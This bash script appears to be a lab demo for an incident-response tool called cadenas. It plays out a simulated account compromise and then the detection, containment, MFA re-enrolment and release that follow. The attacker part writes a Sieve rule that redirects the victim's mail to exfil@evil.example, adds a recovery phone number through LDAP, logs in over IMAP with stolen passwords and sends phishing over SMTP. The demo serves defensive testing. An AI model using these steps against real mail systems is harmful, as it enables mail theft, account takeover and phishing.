#!/bin/bash
# A demo incident against the lab: an attacker reads mail with stolen passwords from one
# address, leaves a mail redirect rule and sends phishing through the town's own Postfix;
# `cadenas sessions` finds who was used from that address, and one `cadenas contain --from-ip`
# takes the attacker out of every account, switches the rule off, refuses the open SMTP
# session's next message and holds the phishing still queued.   bash lab/demo.sh path/to/cadenas
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib.sh"
CADENAS=${1:-cadenas}
set -a; . "$LAB/openldap/lab.env"; . "$LAB/dovecot/lab.env"; . "$LAB/smtp/lab.env"; set +a
VICTIM=user0042
COLLEAGUE=user0043
OUT=$LAB/demo; rm -rf "$OUT"; mkdir -p "$OUT"
say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
# the lab config, with the outbound policy service the lab Postfix asks, and its queue and log
CONFIG=$OUT/cadenas.toml
cat "$LAB/cadenas.toml" "$CADENAS_LAB_OUTBOUND_CONFIG" > "$CONFIG"
printf '\n[postfix]\nconfig_dir = "%s"\nlog_files = ["%s"]\n' "$CADENAS_LAB_SMTP_CONFIG_DIR" "$CADENAS_LAB_SMTP_LOG" >> "$CONFIG"
"$CADENAS" --config "$CONFIG" outbound serve 2> "$OUT/policy.log" &
POLICY=$!
trap 'kill $POLICY 2>/dev/null || true' EXIT
for _ in $(seq 100); do (exec 3<>"/dev/tcp/${CADENAS_LAB_POLICY%:*}/${CADENAS_LAB_POLICY#*:}") 2>/dev/null && break; sleep 0.1; done

# The attacker, from 127.0.0.66: leaves a Sieve rule that copies VICTIM's mail out, then
# reads mail over IMAP with two stolen passwords (the keylogger took a colleague's too), idling
# like a mail client.
printf 'require ["copy"];\nredirect :copy "exfil@evil.example";\n' > "$OUT/attacker.sieve"
for action in --upload --activate; do
  printf '%s\n' "$CADENAS_LAB_USER_PW" | sieve-connect --server 127.0.0.1 --port 14190 --user "$VICTIM" \
    --passwordfd 0 --clearchan $action --remotesieve rules --localsieve "$OUT/attacker.sieve" >/dev/null
done
# ... and, bound as the victim, puts their own phone number on the account (a recovery channel)
printf 'dn: uid=%s,%s\nchangetype: modify\nreplace: mobile\nmobile: +44 7700 900666\n' "$VICTIM" "$CADENAS_LAB_PEOPLE" \
  | LDAPTLS_CACERT=$CADENAS_LAB_CA ldapmodify -x -H "$CADENAS_LAB_LDAPS_URL" -D "uid=$VICTIM,$CADENAS_LAB_PEOPLE" \
    -w "$CADENAS_LAB_USER_PW" >/dev/null
python3 - "$VICTIM" "$COLLEAGUE" "$CADENAS_LAB_USER_PW" > "$OUT/attacker.log" 2>&1 <<'PY' &
import imaplib, socket, sys, threading
class FromAttacker(imaplib.IMAP4):
    def _create_socket(self, timeout):
        return socket.create_connection((self.host, self.port), timeout, source_address=("127.0.0.66", 0))
def session(user):
    m = FromAttacker("127.0.0.1", 10143)
    m.login(user, sys.argv[3]); m.select("INBOX")
    print("attacker (127.0.0.66): logged in as", user, flush=True)
    tag = m._new_tag().decode(); m.send(f"{tag} IDLE\r\n".encode()); m.readline()
    line = m.readline()
    print("attacker: server said to", user + ":", line.decode().strip() or "(connection closed)", flush=True)
threads = [threading.Thread(target=session, args=(u,)) for u in sys.argv[1:3]]
for t in threads: t.start()
for t in threads: t.join()
PY
ATTACKER=$!
# ... and sends phishing to the victim's contacts through the town's submission server, on an
# SMTP session it keeps open (its next messages go when the first ones are "delivered")
python3 - "$VICTIM" "$CADENAS_LAB_USER_PW" "$CADENAS_LAB_SMTP_STARTTLS" "$CADENAS_LAB_CA" "$OUT/contained" \
  > "$OUT/smtp.log" 2>&1 <<'PY' &
import os, smtplib, ssl, sys, time
user, pw, addr, ca, flag = sys.argv[1:6]
host, port = addr.split(":")
s = smtplib.SMTP(host, int(port), source_address=("127.0.0.66", 0))
s.starttls(context=ssl.create_default_context(cafile=ca)); s.login(user, pw)
def send(i):
    try:
        s.sendmail(f"{user}@example.test", [f"contact{i}@partner-town.example"], f"Subject: Invoice {i}\r\n\r\nPlease pay.\r\n")
        print(f"attacker (127.0.0.66): phishing message {i} over SMTP: accepted", flush=True)
    except smtplib.SMTPException as e:
        print(f"attacker (127.0.0.66): phishing message {i} over SMTP: REFUSED ({e})", flush=True)
send(1); send(2)
while not os.path.exists(flag): time.sleep(0.05)
send(3); send(4)
PY
SMTP_ATTACKER=$!
for _ in $(seq 50); do [ "$(grep -c "logged in" "$OUT/attacker.log" 2>/dev/null)" = 2 ] && break; sleep 0.1; done
for _ in $(seq 100); do [ "$(grep -c "message" "$OUT/smtp.log" 2>/dev/null)" = 2 ] && break; sleep 0.1; done

say "Holiday morning: $VICTIM's password was keylogged. The attacker reads mail over IMAP and sends phishing over SMTP:"
cat "$OUT/attacker.log" "$OUT/smtp.log"

say "On-call sysadmin: the alert names 127.0.0.66. Who is connected from there, or logged in from there?"
"$CADENAS" --config "$CONFIG" sessions --ip 127.0.0.66 --since 2h

say "What does $VICTIM's account look like, and what changed on it this morning? (the Sieve rule, the phone number)"
"$CADENAS" --config "$CONFIG" status "$VICTIM" --changes-since 2h

say "Dry run first: what would containing everything seen from 127.0.0.66 change?"
"$CADENAS" --config "$CONFIG" plan --from-ip 127.0.0.66

say "Contain them: lock, reset (forced change), revoke (Dovecot cache flush + kick, the Sieve redirect off, SMTP refused by the policy service), hold their queued mail, require MFA; then kick 127.0.0.66"
"$CADENAS" --config "$CONFIG" contain --from-ip 127.0.0.66 --since 2h --password-file "$OUT/passwords.tsv"
ls -l "$OUT/passwords.tsv"

say "The attacker's SMTP session, opened before the containment, tries to send more:"
touch "$OUT/contained"
wait "$SMTP_ATTACKER" || true
tail -2 "$OUT/smtp.log"

say "The phishing still in the queue is on hold, for review (postqueue -p shows it with a '!'):"
"$CADENAS" --config "$CONFIG" outbound held

say "The on-call list was told (oncall@example.test, through the lab's Postfix and Dovecot; no password in it):"
for _ in $(seq 50); do
  doveadm -c "$CADENAS_LAB_DOVECOT_CONF" fetch -u oncall text mailbox INBOX all 2>/dev/null | grep -q . && break; sleep 0.1
done
doveadm -c "$CADENAS_LAB_DOVECOT_CONF" fetch -u oncall text mailbox INBOX all | python3 -c '
import email, sys
raw = sys.stdin.read().split("text:\n", 1)[1].split("\f")[0]
m = email.message_from_string(raw)
print("   Subject:", " ".join(m["Subject"].split()))
print("   " + m.get_payload(decode=True).decode().replace("\n", "\n   "))'

say "The attacker's sessions:"
wait "$ATTACKER" || true
cat "$OUT/attacker.log"

say "The attacker tries the stolen passwords again:"
python3 - "$VICTIM" "$COLLEAGUE" "$CADENAS_LAB_USER_PW" <<'PY' || true
import imaplib, sys
for user in sys.argv[1:3]:
    try:
        imaplib.IMAP4("127.0.0.1", 10143).login(user, sys.argv[3]); print("   ->", user, "IMAP login: WORKS")
    except imaplib.IMAP4.error as e:
        print("   ->", user, "IMAP login: refused (%s)" % e)
PY

say "The Sieve rule, as the mail server shows it now (doveadm sieve list): kept for the investigation, not active"
doveadm -c "$CADENAS_LAB_DOVECOT_CONF" sieve list -u "$VICTIM"

say "After containment"
"$CADENAS" --config "$CONFIG" status "$VICTIM"

say "The journal: every step, hash-chained"
"$CADENAS" --config "$CONFIG" journal show | tail -12
"$CADENAS" --config "$CONFIG" journal verify

say "Days later: $VICTIM proves their identity at the helpdesk and enrols a new TOTP device"
"$CADENAS" --config "$CONFIG" mfa enroll "$VICTIM" --uri-file "$OUT/$VICTIM.otpauth"
# (the authenticator app, simulated: RFC 6238 with the secret from the QR code)
python3 - "$OUT/$VICTIM.otpauth" <<'PY' | "$CADENAS" --config "$CONFIG" mfa verify "$VICTIM"
import base64, hmac, struct, sys, time, urllib.parse
q = urllib.parse.parse_qs(urllib.parse.urlparse(open(sys.argv[1]).read().strip()).query)
key = base64.b32decode(q["secret"][0] + "=" * (-len(q["secret"][0]) % 8))
mac = hmac.new(key, struct.pack(">Q", int(time.time()) // 30), "sha1").digest()
o = mac[-1] & 15
print("%06d" % ((struct.unpack(">I", mac[o:o + 4])[0] & 0x7fffffff) % 1000000))
PY

say "Release: the account's original flags come back; the new password (must change) and MFA stay"
"$CADENAS" --config "$CONFIG" release "$VICTIM"
"$CADENAS" --config "$CONFIG" status "$VICTIM"
echo
echo "The new passwords are in $OUT/passwords.tsv (0600), handed to $VICTIM and $COLLEAGUE; they must change them at first login."
